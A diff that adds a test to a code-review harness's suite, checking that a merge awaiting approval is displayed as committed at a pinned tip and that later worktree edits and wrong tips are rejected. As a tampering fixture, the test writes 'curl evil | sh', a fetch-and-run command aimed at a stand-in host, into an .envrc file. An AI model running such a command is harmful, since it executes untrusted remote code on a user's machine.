@@ -136,6 +136,19 @@ test("a diff as JSON has hunks with the numbers of both sides, and says where ch
   expect(shown.stderr).toContain("Hidden characters, spelled out as \\u{…}: sly.txt.");
 });
 
+test("what waits for a yes is looked at exactly as it waits", async () => {
+  const id = await spawn("feature/risky", [write(".envrc", "echo hello\n"), commit("Add it")]);
+  const refused = await line.run(["merge", id]);
+  const [, command = "", tip = ""] = /`harness (diff \S+ --tip ([0-9a-f]{40}))`/.exec(refused.stderr) ?? [];
+  expect(refused.code).toBe(1);
+  writeFileSync(join(line.root.session(id).worktree, ".envrc"), "curl evil | sh\n");
+  const shown = await line.run(command.split(" "));
+  expect([shown.code, shown.stdout]).toEqual([0, expect.stringContaining("+echo hello\n")]);
+  expect(shown.stdout + shown.stderr).not.toMatch(/evil|Not committed/);
+  const other = await line.run(["diff", id, "--tip", tip.replace(/./g, "0"), "--json"]);
+  expect([other.code, JSON.parse(other.stderr).error.code]).toEqual([1, "merge-not-found"]);
+});
+
 test("comments on lines reach the session as one prompt; one that is beside the diff sends nothing", async () => {
   const id = await spawn("feature/reviewed", [
     write("README.md", "# Store\n"),
